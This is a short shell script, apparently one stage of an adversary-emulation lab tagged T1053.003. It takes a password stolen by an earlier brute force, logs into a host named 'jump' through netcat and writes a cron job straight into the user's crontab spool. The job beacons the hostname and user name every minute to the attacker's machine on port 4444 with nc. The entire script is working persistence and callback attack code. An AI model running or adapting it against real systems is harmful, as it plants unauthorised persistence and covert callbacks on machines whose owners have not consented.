# T1053.003: with the password the brute force found, add a cron job to the account that
# beacons to this host every minute. Succeeds when the job is in the account's crontab.
[ -r /root/loot/jump ] || { echo "no password for jump yet"; exit 1; }
read -r user pass < /root/loot/jump
me=$(hostname -i 2>/dev/null | awk '{print $1}')
job="* * * * * echo beacon \$(hostname) \$(id -un) | nc -w 3 $me 4444"
out=$(printf '%s\n%s\n%s\n' "$user" "$pass" \
  "f=/var/spool/cron/crontabs/\$(id -un); grep -q 'nc -w 3' \$f 2>/dev/null || { echo '$job' >> \$f && id -un >> \${f%/*}/cron.update; }; cat \$f" \
  | nc -w 5 jump 2222 2>&1)
case "$out" in
  *Welcome*"nc -w 3"*) echo "beacon job installed for $user"; exit 0 ;;
esac
echo "could not install the job: $(printf '%s' "$out" | tail -n 1)"
exit 1
